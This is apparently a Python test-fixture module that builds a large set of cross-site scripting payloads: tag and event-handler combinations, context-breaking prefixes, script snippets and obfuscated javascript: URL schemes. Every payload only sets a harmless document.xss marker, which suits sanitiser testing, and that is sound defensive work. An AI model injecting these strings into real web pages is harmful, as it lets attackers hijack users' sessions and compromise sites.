"""Strings that run code where a page takes them for markup; each would set `document.xss`."""

from __future__ import annotations

from itertools import product

RUN = "document.xss=1"
_TAGS = ("img src=x", "svg", "body", "video src=x", "audio src=x", "iframe", "input autofocus",
         "details open", "select autofocus", "textarea autofocus", "marquee", "object data=x",
         "style", "link rel=stylesheet href=x", "math", "a href=x autofocus",
         "embed src=x", "frameset")  # fmt: skip
_EVENTS = ("onerror", "onload", "onfocus", "ontoggle", "onstart", "onanimationstart", "onpageshow")
_OPENERS = ("", '">', "'>", "</title>", "</style>", "</textarea>", "-->", "]]>", "</li></ul>")
_CODE = (f"<script>{RUN}</script>", f"<script>{RUN}//", f"<svg><script>{RUN}</script></svg>",
         f"<iframe srcdoc='<script>parent.{RUN}</script>'>", f"<base href='javascript:{RUN}//'>",
         f"<meta http-equiv=refresh content='0;url=javascript:{RUN}'>",
         f"<form action='javascript:{RUN}'><button>x", f"<math href='javascript:{RUN}'>x",
         "{{ 7*7 }}", f"&lt;script&gt;{RUN}&lt;/script&gt;", f"\u003cscript\u003e{RUN}</script>",
         f"<scr\0ipt>{RUN}</scr\0ipt>", f"[x](javascript:{RUN})", f"' onmouseover='{RUN}",
         f"\" onfocus=\"{RUN}\" autofocus=\"")  # fmt: skip
_SCHEMES = ("javascript:", "JaVaScRiPt:", "java\tscript:", "java\nscript:", "\x01javascript:",
            " javascript:", "javascript&colon;", "vbscript:", "data:text/html,<script>",
            "data:text/html;base64,", "view-source:javascript:", "//javascript:",
            "https://x.example/\" onfocus=\"", "https://x.example/' onload='",
            "https://x.example/></a><script>", "https://x.example\\@")  # fmt: skip

TEXTS = [f"<{tag} {event}={RUN}>" for tag, event in product(_TAGS, _EVENTS)]
TEXTS += [opener + code for opener, code in product(_OPENERS, _CODE)]
URLS = [scheme + RUN for scheme in _SCHEMES]
